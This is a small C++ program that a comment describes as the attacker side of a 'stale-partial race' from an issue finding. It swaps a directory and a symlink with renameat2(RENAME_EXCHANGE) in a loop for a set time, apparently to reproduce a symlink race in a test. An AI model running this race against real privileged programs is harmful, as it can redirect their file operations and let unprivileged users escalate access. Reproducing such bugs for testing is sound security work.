// The attacker of the stale-partial race (issue 13, finding 1), run as user nobody: swaps two
// names (a directory and a symlink) with renameat2(RENAME_EXCHANGE) as fast as it can, until
// killed or for at most SECONDS. Usage: pds_swapper A B SECONDS
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char** argv) {
    if (argc != 4) {
        std::fprintf(stderr, "usage: pds_swapper A B SECONDS\n");
        return 2;
    }
    const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(std::atoi(argv[3]));
    unsigned long swaps = 0;
    while (std::chrono::steady_clock::now() < until) {
        for (int i = 0; i < 1000; ++i)
            if (::renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
                ++swaps;
    }
    std::printf("%lu\n", swaps);
    return 0;
}
